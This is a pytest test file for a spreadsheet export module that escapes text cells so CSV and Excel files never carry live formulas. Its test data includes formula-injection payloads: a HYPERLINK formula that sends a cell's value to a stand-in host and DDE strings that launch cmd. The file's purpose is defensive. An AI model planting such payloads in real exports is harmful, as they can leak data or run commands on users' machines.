"""CSV and Excel cells never reach a spreadsheet program as a live formula."""

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from regio.core.spreadsheets import csv_bytes, safe_cell, xlsx_bytes

PAYLOADS = [
    ('=HYPERLINK("https://x.example/?x="&A1,"Klik")', '\'=HYPERLINK("https://x.example/?x="&A1,"Klik")'),
    ("+31 71 516 5111", "'+31 71 516 5111"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Warmterotonde", "Warmterotonde"),
    ("Leiden = trekker", "Leiden = trekker"),
    ("", ""),
]


@pytest.mark.parametrize(("given", "expected"), PAYLOADS)
def test_text_that_starts_a_formula_gets_a_quote(given, expected):
    assert safe_cell(given) == expected


@pytest.mark.parametrize("value", [None, 3, -4, 2.5, True, date(2019, 2, 28)])
def test_values_that_are_not_text_pass_unchanged(value):
    assert safe_cell(value) == value


def test_csv_has_bom_semicolons_crlf_and_neutral_cells():
    data = csv_bytes(["titel", "aantal"], [[given, -1] for given, _ in PAYLOADS])
    assert data.startswith("\ufeff".encode())
    text = data.decode("utf-8-sig")
    assert text.split("\n")[0] == "titel;aantal\r"
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert [row[0] for row in rows[1:]] == [expected for _, expected in PAYLOADS]
    assert {row[1] for row in rows[1:]} == {"-1"}  # a number is a value, not a formula


def test_xlsx_stores_formula_like_text_as_text():
    data = xlsx_bytes(["titel", "datum"], [[given, date(2019, 2, 28)] for given, _ in PAYLOADS],
                      title="Onderwerpen: [2019]")
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.title == "Onderwerpen   2019"
    assert [cell.value for cell in sheet[1]] == ["titel", "datum"]
    for row, (_, expected) in zip(sheet.iter_rows(min_row=2), PAYLOADS, strict=True):
        assert row[0].data_type != "f"  # never a formula
        assert (row[0].value or "") == expected
        assert row[1].value.date() == date(2019, 2, 28)
